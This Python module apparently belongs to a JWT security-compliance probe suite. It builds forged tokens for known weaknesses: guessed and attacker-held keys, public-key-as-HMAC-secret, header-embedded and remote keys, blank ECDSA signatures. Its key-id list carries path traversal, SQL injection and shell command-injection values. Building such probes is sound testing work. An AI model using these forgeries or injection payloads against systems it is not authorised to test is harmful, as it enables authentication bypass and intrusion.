"""Tokens signed by a key of the attacker's choice: his own, a guessed one, the issuer's public one, or one that the
token itself points to.

RFC 8725 §3.1 and §3.10, ASVS v5.0.0-9.1.2 and 9.1.3, CVE-2015-9235 (public key as secret), CVE-2018-0114
(embedded key), CVE-2022-21449 (blank ECDSA signature). The genuine header is kept, key id and all, so that the
stack's look-up of the key succeeds wherever the forgery does not aim at that look-up.
"""

import base64
import json
from collections.abc import Callable
from typing import Any

from chimera_compliance.probes.jwt.attacker import Attacker, PublicKey, public_jwk
from chimera_compliance.probes.jwt.forgeries import Forgery, Genuine
from chimera_compliance.probes.jwt.jose import Signer, b64, compact, hmac_signer, key_signer


def _own(algorithm: str, key: Callable[[Attacker], Any], id: str = "") -> Forgery:
    return Forgery(
        id or f"own-{algorithm}",
        f"a token signed by a stranger's {algorithm} key",
        lambda g: compact(g.header(alg=algorithm), g.claims, key_signer(key(g.attacker), algorithm)),
    )


def _guessed(secret: bytes, id: str, what: str, algorithm: str = "HS256") -> Forgery:
    return Forgery(
        id, what, lambda g: compact(g.header(alg=algorithm), g.claims, hmac_signer(secret, algorithm))
    )  # fmt: skip


def _own_secret(algorithm: str) -> Forgery:
    return Forgery(
        f"own-{algorithm}",
        f"a token signed by a stranger's {algorithm} secret",
        lambda g: compact(g.header(alg=algorithm), g.claims, hmac_signer(g.attacker.secret, algorithm)),
    )


FOREIGN_KEY = [
    *map(_own_secret, ("HS256", "HS384", "HS512")),
    _own("RS256", lambda a: a.rsa_key),
    _own("PS256", lambda a: a.rsa_key),
    _own("ES256", lambda a: a.p256),
    _own("ES384", lambda a: a.p384),
    _own("EdDSA", lambda a: a.edwards),
    _guessed(b"", "blank-secret", "a token signed with a blank secret"),
    _guessed(b"secret", "secret-secret", "a token signed with the secret `secret`"),
    _guessed(b"None", "none-secret", "a token signed with the text of a missing setting (`None`)"),
]


PUBLIC_KEY_FORMS: dict[str, Callable[[PublicKey], bytes]] = {
    "pem": lambda key: key.pem,
    "pem-stripped": lambda key: key.pem.rstrip(),
    "pem-crlf": lambda key: key.pem.replace(b"\n", b"\r\n"),
    "pem-pkcs1": lambda key: key.pkcs1,
    "der": lambda key: key.der,
    "der-base64": lambda key: base64.b64encode(key.der),
    "jwk": lambda key: key.jwk_text,
}


def with_public_key(form: str, key: PublicKey, algorithm: str = "HS256") -> Forgery:
    """A token whose HMAC secret is a key that everybody can read (CVE-2015-9235)."""
    secret = PUBLIC_KEY_FORMS[form](key)
    what = f"a token signed with the public key of {key.source} as HMAC secret"
    return Forgery(form, what, lambda g: compact(g.header(alg=algorithm), g.claims, hmac_signer(secret, algorithm)))


def _embedding(alg: str, key: Callable[[Attacker], Signer], **header: Callable[[Attacker], Any]):
    def make(g: Genuine) -> str:
        extra = {name: value(g.attacker) for name, value in header.items()}
        return compact(g.header(alg=alg, **extra), g.claims, key(g.attacker))

    return make


def _rsa(a: Attacker) -> Signer:
    return key_signer(a.rsa_key, "RS256")


def _oct(a: Attacker) -> dict[str, str]:
    return {"kty": "oct", "k": b64(a.secret), "alg": "HS256"}


EMBEDDED_KEY = [
    Forgery("jwk-rsa", "a token signed by the key in its own header (jwk, RSA)",
            _embedding("RS256", _rsa, jwk=lambda a: public_jwk(a.rsa_key.public_key()))),
    Forgery("jwk-ec", "a token signed by the key in its own header (jwk, EC)",
            _embedding("ES256", lambda a: key_signer(a.p256, "ES256"), jwk=lambda a: public_jwk(a.p256.public_key()))),
    Forgery("jwk-oct", "a token signed by the secret in its own header (jwk, oct)",
            _embedding("HS256", lambda a: hmac_signer(a.secret), jwk=_oct)),
    Forgery("x5c", "a token signed by the certificate in its own header (x5c)",
            _embedding("RS256", _rsa, x5c=lambda a: [base64.b64encode(a.certificate).decode()])),
]  # fmt: skip


def _remote(name: str, path: str) -> Forgery:
    return Forgery(
        f"{name}-url",
        f"a token whose `{name}` names a key at a stranger's address",
        _embedding("RS256", _rsa, **{name: lambda a: f"{a.address}/{name}{path}"}),
    )


def _issuer_url(g: Genuine) -> str:
    claims = {**g.claims, "iss": f"{g.attacker.address}/iss"}
    return compact(g.header(alg="RS256"), claims, _rsa(g.attacker))


REMOTE_KEY = [
    _remote("jku", "/jwks.json"),
    _remote("x5u", "/chain.pem"),
    _remote("kid", "/key.pem"),
    Forgery("iss-url", "a token whose issuer is a stranger's address", _issuer_url),
]


def _kid(id: str, kid: Any, secret: bytes = b"") -> Forgery:
    shown = json.dumps(kid)
    what = f"a token whose key id is {shown if len(shown) < 50 else shown[:40] + '…'}"
    return Forgery(f"kid-{id}", what, lambda g: compact(g.header(alg="HS256", kid=kid), g.claims, hmac_signer(secret)))


_UP = "../" * 12
KEY_ID = [
    _kid("dev-null", f"{_UP}dev/null"),
    _kid("dev-null-absolute", "/dev/null"),
    _kid("dev-null-byte", f"{_UP}dev/null\0.pem"),
    _kid("dev-null-encoded", f"{_UP}dev/null".replace("/", "%2f")),
    _kid("known-file", f"{_UP}proc/sys/kernel/ostype", b"Linux\n"),
    _kid("known-file-stripped", f"{_UP}proc/sys/kernel/ostype", b"Linux"),
    _kid("sql-union", "nobody' UNION SELECT 'chimera' -- ", b"chimera"),
    _kid("sql-union-two", "nobody' UNION SELECT 'chimera','chimera' -- ", b"chimera"),
    _kid("sql-quote", "'"),
    _kid("command", "nothing; printf chimera #", b"chimera"),
    _kid("command-pipe", "nothing | printf chimera |", b"chimera"),
    _kid("unknown", "no-such-key"),
    _kid("empty", ""),
    _kid("null", None),
    _kid("list", ["no-such-key"]),
    _kid("number", 0),
    _kid("prototype", "__proto__", b"[object Object]"),
    _kid("long", "k" * 4096),
]  # fmt: skip


def _blank_ecdsa(algorithm: str, size: int) -> Forgery:
    return Forgery(
        f"zero-{algorithm}",
        f"a token with a blank {algorithm} signature (r = s = 0)",
        lambda g: compact(g.header(alg=algorithm), g.claims, lambda _: bytes(size)),
    )


BLANK_ECDSA = [
    _blank_ecdsa("ES256", 64),
    _blank_ecdsa("ES384", 96),
    _blank_ecdsa("ES512", 132),
    Forgery(
        "zero-ES256-der",
        "a token with a blank ES256 signature in DER (r = s = 0)",
        lambda g: compact(g.header(alg="ES256"), g.claims, lambda _: bytes.fromhex("3006020100020100")),
    ),
]
